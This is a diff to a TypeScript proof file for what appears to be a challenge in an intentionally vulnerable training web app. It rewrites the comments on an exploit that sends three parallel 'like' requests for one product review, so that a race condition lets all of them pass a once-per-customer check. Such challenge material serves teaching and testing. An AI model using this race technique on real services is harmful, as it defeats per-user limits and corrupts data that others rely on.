@@ -3,14 +3,14 @@ import { challenge } from './challenge.ts'
 
 const PATH = '/rest/products/reviews'
 
-/** Id of the first review of a product. */
+/** Returns the id of a product's first review. */
 async function reviewOf(attacker: Attacker, product: number): Promise<string> {
   return (await attacker.get(`/rest/products/${product}/reviews`)).json().data[0]._id
 }
 
 const like = (attacker: Attacker, id: string) => attacker.post(PATH, { id })
 
-/** Sends so many likes of one review together, as a customer. */
+/** Sends several likes of one review in parallel, as a customer. */
 const likeTogether =
   (times: number, product = 1): Attack =>
   async (attacker) => {
@@ -23,7 +23,7 @@ export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.becomeCustomer()
     const id = await reviewOf(attacker, 1)
-    // The list of those who like it knows nobody before the first of these has rested.
+    // The server stores the customer's name only after a delay, so all three likes pass the check.
     await Promise.all([like(attacker, id), like(attacker, id), like(attacker, id)])
     await attacker.get('/rest/products/1/reviews')
   },
